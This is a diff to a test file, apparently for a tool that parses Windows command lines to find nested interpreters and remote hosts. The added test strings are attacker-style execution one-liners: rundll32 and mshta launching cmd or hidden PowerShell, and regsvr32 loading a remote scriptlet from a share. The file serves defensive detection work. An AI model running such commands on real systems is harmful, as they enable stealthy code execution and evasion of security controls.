@@ -74,6 +74,8 @@ describe('interpreters in interpreters', () => {
     ['wmic /node:a process call create "powershell -nop"', ['wmic', 'powershell']],
     ['powershell -c "cmd /c whoami; & \'C:\\a\\b.exe\' -x"', ['powershell', 'cmd', 'whoami', 'b']],
     ['powershell Start-Process -FilePath mshta -ArgumentList a', ['powershell', 'start-process', 'mshta']],
+    ['rundll32 shell32.dll,ShellExec_RunDLL cmd /c calc', ['rundll32', 'cmd', 'calc']],
+    ['mshta vbscript:CreateObject("WScript.Shell").Run("powershell -nop",0)(window.close)', ['mshta', 'powershell']],
     ['sc create a binPath= "cmd /c calc"', ['sc', 'cmd', 'calc']],
     ['schtasks /create /tr "wscript a.vbs"', ['schtasks', 'wscript']],
   ])('%s', (line, expected) => {
@@ -220,6 +222,7 @@ describe('addresses', () => {
     ['a.exe https://user@a.example:8443/x?y#z', 'a.example'],
     ['a.exe \\\\srv.corp.example\\share\\a', 'srv.corp.example'],
     ['a.exe \\\\srv@SSL@443\\share\\a', 'srv@SSL@443'],
+    ['regsvr32 /s /i:\\\\srv\\share\\a.sct scrobj.dll', 'srv'],
     ['cmd /c curl ht^tp://a.example/b', 'a.example'],
     ['a.exe http://[2001:db8::1]/x', '[2001:db8::1]'],
   ])('%s', (line, host) => {
